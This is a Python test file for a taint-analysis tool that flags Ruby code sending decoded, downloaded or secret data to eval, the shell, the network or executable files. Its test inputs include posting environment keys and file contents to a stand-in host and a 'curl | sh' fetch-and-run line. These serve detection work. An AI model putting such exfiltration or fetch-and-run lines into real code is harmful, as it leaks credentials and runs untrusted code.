"""Data that reaches a sink."""

import pytest

from pratique.analysis.facts import Capability, Taint
from tests.analysis.frontends.ruby.reading import facts, flows

C, P, N, W = Capability.CODE, Capability.PROCESS, Capability.NETWORK, Capability.FILE_WRITE
DECODED, NET, ENV, FILE = Taint.DECODED, Taint.NETWORK, Taint.ENVIRONMENT, Taint.FILE
HEAD = "d = Base64.decode64(x)\nn = Net::HTTP.get(x)\ne = ENV['DEPLOY_KEY']\n"


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("eval(d)", (C, "Kernel.eval", {DECODED})),
        ("eval(n)", (C, "Kernel.eval", {NET})),
        ("x.instance_eval(d)", (C, "Object.instance_eval", {DECODED})),
        ("public_send(d)", (C, "computed-call", {DECODED, Taint.COMPUTED})),
        ("[d].each(&method(:eval))", (C, "Kernel.eval", {DECODED})),
        ("d.each_line(&method(:system))", (P, "Kernel.system", {DECODED})),
        ("system('sh', '-c', d)", (P, "Kernel.system", {DECODED})),
        ("system({'A' => e}, n)", (P, "Kernel.system", {NET})),
        ("`sh #{n}`", (P, "Kernel.`", {NET})),
        ("open('|' + d)", (P, "Kernel.open", {DECODED})),
        ("Net::HTTP.post(URI('http://a.invalid/'), e)", (N, "Net::HTTP.post", {ENV})),
        ('Net::HTTP.get(URI("http://a.invalid/?#{e}"))', (N, "Net::HTTP.get", {ENV})),
        ('URI.parse("http://a.invalid/#{e}").open', (N, "URI.open", {ENV})),
        (
            "r = Net::HTTP::Post.new(y)\nr.body = e\nNet::HTTP.start(z) { |h| h.request(r) }",
            (N, "Net::HTTP.request", {ENV}),
        ),
        ("Net::HTTP.post(y, `git log`)", (N, "Net::HTTP.post", {Taint.PROCESS})),
        ("o, _ = Open3.capture2('git log')\nNet::HTTP.post(y, o)", (N, "Net::HTTP.post", {Taint.PROCESS})),
        ("Net::HTTP.post(y, IO.popen('git log').read)", (N, "Net::HTTP.post", {Taint.PROCESS})),
        ("Net::HTTP.post(y, Etc.getlogin)", (N, "Net::HTTP.post", {ENV})),
        ("HTTParty.post(y, body: {a: File.read(x)})", (N, "HTTParty.post", {FILE})),
        ("File.write('a', d)", (W, "File.write", {DECODED})),
        ("File.binwrite('a.exe', n)", (W, "File.binwrite", {NET})),
        ("File.open('a.exe', 'wb') { |f| f.write(n) }", (W, "open.write", {NET})),
    ],
)
def test_data_is_followed_to_where_it_ends(source: str, expected: object) -> None:
    assert expected in flows(HEAD + source)


@pytest.mark.parametrize(
    "source",
    [
        "eval('1')",
        "eval(x)",
        "Marshal.load(d)",
        "eval(`kite-config`)",
        "require `kite-config`.strip",
        "system({'A' => d}, 'make')",
        "system('make', chdir: d)",
        "Open3.capture2('gpg', stdin_data: d)",
        "Net::HTTP.get(URI(e))",
        "HTTParty.get('http://a.invalid/', headers: {a: e})",
        "Net::HTTP.post(URI('http://a.invalid/'), d)",
        "File.write('a.json', n)",
        "open(d)",
        "def eval(x) = x\neval(d)",
    ],
)
def test_ordinary_calls_are_no_flows(source: str) -> None:
    assert [] == flows(HEAD + source)


def test_a_flow_says_where_it_begins_and_ends_and_when_it_runs() -> None:
    first, second = facts("def f\n eval(Base64.decode64(x))\nend\n\nd = Base64.decode64(x)\n\neval(d)").flows

    assert (2, 2, False) == (first.line, first.origin_line, first.at_load)
    assert (7, 5, True) == (second.line, second.origin_line, second.at_load)


def test_a_flow_in_a_command_line_is_told() -> None:
    (flow,) = facts("\nsystem('curl http://a.invalid/x | sh')").flows

    assert (C, 2, 1, (NET,)) == (flow.sink, flow.line, flow.depth, flow.taints)


@pytest.mark.parametrize(("data", "whole"), [("ENV.to_h.to_s", True), ("ENV['SAMPLE_KEY']", False)])
def test_all_variables_together_are_told_apart_from_one_of_them(data: str, whole: bool) -> None:
    source = f"require 'net/http'\ndef f\n  Net::HTTP.post(URI('https://a.invalid'), {data})\nend\n"
    ((_, _, taints),) = flows(source)
    assert Taint.ENVIRONMENT in taints
    assert whole == (Taint.WHOLE_ENVIRONMENT in taints)
